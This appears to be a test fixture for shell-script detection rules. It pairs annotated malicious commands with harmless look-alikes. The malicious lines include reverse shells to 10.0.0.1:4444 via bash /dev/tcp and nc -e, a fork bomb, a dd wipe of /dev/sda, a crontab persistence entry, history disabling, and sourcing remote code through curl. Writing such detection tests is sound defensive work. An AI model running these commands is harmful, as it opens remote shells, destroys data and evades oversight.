#!/bin/sh
# Things a malicious submission might do.

# ruleid: sh.reverse-shell
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
# ruleid: sh.reverse-shell, sh.network
nc -e /bin/sh 10.0.0.1 4444
# ruleid: sh.fork-bomb
:(){ :|:& };:
# ruleid: sh.history-off
unset HISTFILE
# ruleid: sh.dd-disk
dd if=/dev/zero of=/dev/sda bs=1M
# ruleid: sh.crontab-persist
echo "* * * * * root /tmp/x" >> /etc/crontab
# ruleid: sh.sudo
sudo rm -rf /var/log/app
# ruleid: sh.cleartext-protocol, sh.network
telnet legacy.example.com 23
# ruleid: sh.infinite-spawn
while true; do sleep 1 & done
# ruleid: sh.exec-remote
source <(curl -s http://example.com/env)

# --- harmless look-alikes -----------------------------------------------------
# ok: sh.network
echo "curl is not called here"
# ok: sh.fork-bomb
count() { ls | wc -l; }
# ok: sh.dd-disk
dd if=/dev/zero of=disk.img bs=1M count=10
# ok: sh.infinite-spawn
while true; do sleep 1; done
# ok: sh.reverse-shell
# ruleid: sh.network
nc -z localhost 80
# ok: sh.sudo
echo "pseudo code"
# ok: *
printf '%s\n' "done"
